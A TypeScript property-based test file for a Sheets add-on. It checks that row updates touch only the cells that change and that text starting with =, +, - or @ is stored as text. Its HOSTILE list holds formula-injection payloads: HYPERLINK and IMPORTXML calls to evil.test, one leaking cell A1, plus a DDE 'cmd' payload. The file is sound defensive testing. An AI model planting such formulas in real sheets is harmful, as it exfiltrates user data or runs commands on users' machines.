// Issue 20, item 1: a write touches only the cells it changes, and nothing the add-on writes
// can become a formula. The in-memory sheet below stores cells as Sheets does when a script
// calls setValues (a string starting with = is a formula, a leading apostrophe marks text and
// is dropped), and it is pessimistic: + - @ and leading spaces also start a formula here.
import fc from 'fast-check';
import { decodeTable, readFormulasOf, readTable, updateRows } from '../../src/workbook/table';
import { formulaSafe, keepAsRead, readBack } from '../../src/workbook/codec';
import { DEALS } from '../../src/workbook/schema';
import { SheetPort } from '../../src/ports';
import { localDates } from '../../src/domain/kernel/timezone';

const dates = localDates('Europe/Berlin');
const header = [...DEALS.columns.map((c) => c.header), 'My own column'];
const at = (key: string) => DEALS.columns.findIndex((c) => c.key === key);
const OWN = header.length - 1;

type Cell = { formula: string } | { value: unknown };

/** What getValues returns for a formula: its computed value (anything but the formula). */
const computed = (formula: string) => `computed ${formula.length}`;

function isFormulaText(v: string): boolean {
  return /^\s*[=+\-@]/.test(v) && v.trim().length > 1 && !/^\s*[-+]?\d+(\.\d+)?\s*$/.test(v);
}

function store(v: unknown): Cell {
  if (typeof v === 'string' && v.charAt(0) === "'") return { value: v.slice(1) };
  if (typeof v === 'string' && isFormulaText(v)) return { formula: v };
  return { value: v === null || v === undefined ? '' : v };
}

function memorySheet(rows: Cell[][]) {
  const grid: Cell[][] = [header.map((h) => ({ value: h })), ...rows];
  const written: string[] = [];
  const calls = { reads: 0, writes: 0 };
  const read = (c: Cell | undefined) => (!c ? '' : 'formula' in c ? computed(c.formula) : c.value);
  const port: SheetPort = {
    readAll: () => { calls.reads++; return grid.map((r) => header.map((_, j) => read(r[j]))); },
    readHeader: () => header.slice(),
    writeBlock: (_tab, row, column, values) => {
      calls.writes++;
      values.forEach((line, i) => line.forEach((v, j) => {
        grid[row - 1 + i][column - 1 + j] = store(v);
        written.push(`${row + i}:${column + j}`);
      }));
    },
    writeCells: (_tab, cells) => {
      calls.writes++;
      for (const c of cells) { grid[c.row - 1][c.column - 1] = store(c.value); written.push(`${c.row}:${c.column}`); }
    },
    deleteRows: () => undefined,
    replaceAll: () => undefined,
    appendRows: () => undefined,
    timeZone: () => 'Europe/Berlin',
    dimensions: () => ({ rows: grid.length, columns: header.length }),
    findRows: () => [],
    readBlock: () => null,
    readFormulas: (_tab, row, column, numRows, numColumns) => {
      calls.reads++;
      return Array.from({ length: numRows }, (_, i) => Array.from({ length: numColumns }, (_, j) => {
        const c = grid[row - 1 + i][column - 1 + j];
        return c && 'formula' in c ? c.formula : '';
      }));
    },
  };
  return { port, grid, written, calls };
}

const HOSTILE = [
  '=HYPERLINK("http://evil.test/steal","x")', '=IMPORTXML("http://evil.test/?d="&A1,"//a")', "=cmd|' /C calc'!A0",
  '+1+1', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', ' =1+1', "'quoted", '00123', 'plain words', '',
];

function dealRow(i: number): Cell[] {
  const row: Cell[] = header.map(() => ({ value: '' }));
  row[at('id')] = { value: `D-${i}` };
  row[at('title')] = { value: `Deal ${i}` };
  row[at('stage')] = { value: 'New' };
  row[at('budget')] = { value: 100 + i };
  return row;
}

describe('updateRows writes only the cells it changes', () => {
  it('a stored =… text and a user formula between two changed cells stay as they are', () => {
    const row = dealRow(1);
    row[at('notes')] = { value: '=HYPERLINK("http://evil.test/steal","x")' }; // text, stored behind an apostrophe
    row[at('amount')] = { formula: '=L2*2' }; // a user's formula in one of our columns
    row[OWN] = { formula: '=A2' }; // and in the user's own column
    const sheet = memorySheet([row]);
    const table = readTable(sheet.port, DEALS, dates);
    updateRows(sheet.port, table, [{ row: table.rows[0], patch: { title: 'Renamed', notes: '=HYPERLINK("http://evil.test/steal","x")', source: 'Referral' } }], dates);
    expect(sheet.grid[1][at('notes')]).toEqual({ value: '=HYPERLINK("http://evil.test/steal","x")' });
    expect(sheet.grid[1][at('amount')]).toEqual({ formula: '=L2*2' });
    expect(sheet.grid[1][OWN]).toEqual({ formula: '=A2' });
    expect(sheet.grid[1][at('title')]).toEqual({ value: 'Renamed' });
    expect(sheet.grid[1][at('source')]).toEqual({ value: 'Referral' });
    expect(sheet.written.sort()).toEqual([`2:${at('source') + 1}`, `2:${at('title') + 1}`].sort());
  });

  it('a row whose changed cells are adjacent is one write; adjacent rows changing the same columns share it', () => {
    const sheet = memorySheet([dealRow(1), dealRow(2), dealRow(3)]);
    const table = readTable(sheet.port, DEALS, dates);
    sheet.calls.reads = 0;
    updateRows(sheet.port, table, table.rows.map((row, i) => ({ row, patch: { health: 'red', openGates: `gate ${i}` } })), dates);
    expect(sheet.calls).toEqual({ reads: 0, writes: 1 });
  });

  it('scattered changes become one block after one read of its formulas, keeping what the other cells hold', () => {
    // The old test asserted one block from the first to the last changed column spanning
    // unchanged cells: that block is what armed `'=…` text and erased formulas (issue 20).
    const rows = [dealRow(1), dealRow(2), dealRow(3), dealRow(4)];
    rows[2][at('phone')] = { value: '=1+1' }; // text read back as =1+1
    rows[2][at('manager')] = { formula: '=A4' };
    rows[0][at('email')] = { value: '00123' };
    const sheet = memorySheet(rows);
    const table = decodeTable(DEALS, sheet.port.readAll(DEALS.name)!, dates);
    sheet.calls.reads = 0;
    const r = table.rows;
    updateRows(sheet.port, table, [
      { row: r[0], patch: { stage: 'negotiation' } },
      { row: r[1], patch: { stage: 'negotiation', budget: 5 } },
      { row: r[2], patch: { stage: 'new' } }, // unchanged: no cell to write
      { row: r[3], patch: { budget: 7 } },
    ], dates);
    expect(sheet.calls).toEqual({ reads: 1, writes: 1 });
    expect(sheet.grid[3][at('phone')]).toEqual({ value: '=1+1' });
    expect(sheet.grid[3][at('manager')]).toEqual({ formula: '=A4' });
    expect(sheet.grid[1][at('email')]).toEqual({ value: '00123' });
    expect(sheet.grid[2][at('budget')]).toEqual({ value: 5 });
    expect(sheet.grid[4][at('budget')]).toEqual({ value: 7 });
    expect(table.raw[3][at('budget')]).toBe(7);
  });

  it('property: after every write, untouched cells hold exactly what they held and no written cell is a formula', () => {
    const columns = ['title', 'notes', 'source', 'phone', 'email', 'manager', 'clientName', 'budget', 'amount', 'health', 'openGates'];
    const cell = fc.oneof(
      fc.constantFrom(...HOSTILE).map((v): Cell => ({ value: v })),
      fc.constantFrom('=A2', '=SUM(L2:M2)', '=NOW()').map((f): Cell => ({ formula: f })),
      fc.integer({ min: -5, max: 500 }).map((n): Cell => ({ value: n })),
    );
    const value = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ maxLength: 6 }), fc.integer({ min: 0, max: 9 }));
    const patch = fc.record({ index: fc.nat(11), fields: fc.dictionary(fc.constantFrom(...columns), value, { maxKeys: 4 }) });
    fc.assert(fc.property(
      fc.array(fc.array(cell, { minLength: header.length, maxLength: header.length }), { minLength: 1, maxLength: 8 }),
      fc.array(fc.array(patch, { maxLength: 5 }), { minLength: 1, maxLength: 3 }),
      fc.boolean(),
      fc.boolean(),
      (cells, rounds, keepTable, formulasUpFront) => {
        const rows = cells.map((line, i) => {
          const row = line.slice();
          row[at('id')] = { value: `D-${i}` };
          row[at('stage')] = { value: 'New' };
          return row;
        });
        const sheet = memorySheet(rows);
        let table = readTable(sheet.port, DEALS, dates);
        if (formulasUpFront) readFormulasOf(sheet.port, table);
        for (const round of rounds) {
          if (!keepTable) {
            table = readTable(sheet.port, DEALS, dates);
            if (formulasUpFront) readFormulasOf(sheet.port, table);
          }
          const readsBefore = sheet.calls.reads;
          const before = sheet.grid.map((r) => r.map((c) => ({ ...c })));
          sheet.written.length = 0;
          const patches = round
            .filter((p) => p.index < rows.length)
            .filter((p, i, all) => all.findIndex((q) => q.index === p.index) === i)
            .map((p) => ({ row: table.decodeAt!(p.index), patch: p.fields as Record<string, unknown> }));
          updateRows(sheet.port, table, patches, dates);
          const meant = new Set<string>();
          for (const p of patches) for (const key of Object.keys(p.patch)) meant.add(`${p.row.row}:${at(key) + 1}`);
          const wrong: string[] = [];
          const same = (a: Cell, b: Cell) => JSON.stringify(a) === JSON.stringify(b);
          sheet.grid.forEach((line, r) => line.forEach((now, c) => {
            const where = `${r + 1}:${c + 1}`;
            const was = before[r][c];
            // Untouched cells hold what they held; a patched cell whose value did not change may
            // keep its formula; no cell the add-on wrote is a formula it did not read there.
            if (!meant.has(where) && !same(now, was)) wrong.push(`untouched ${where}: ${JSON.stringify(was)} -> ${JSON.stringify(now)}`);
            if (meant.has(where) && 'formula' in now && !same(now, was)) wrong.push(`written ${where} became ${JSON.stringify(now)}`);
          }));
          expect(wrong).toEqual([]);
          // With the formulas read up front, a patch reads nothing more.
          if (formulasUpFront) expect(sheet.calls.reads).toBe(readsBefore);
        }
      },
    ), { numRuns: 300 });
  });
});

describe('formulaSafe', () => {
  it('neutralises = + - @, the same after spaces, a leading tab, CR or LF, and a leading apostrophe', () => {
    for (const text of ['=1+1', '+1', '-1', '@x', ' =1', '\u00a0=1', '\t=1', '\tx', '\rx', '\nx', "'x"]) {
      expect(formulaSafe(text)).toBe(`'${text}`);
      expect(readBack(formulaSafe(text))).toBe(text);
    }
    for (const text of ['plain', 'a=b', '1-2', '']) expect(formulaSafe(text)).toBe(text);
  });

  it('keepAsRead writes any text back as text and other values as they are', () => {
    expect(keepAsRead('00123')).toBe("'00123");
    expect(keepAsRead('=x')).toBe("'=x");
    expect(keepAsRead('')).toBe('');
    expect(keepAsRead(5)).toBe(5);
  });
});
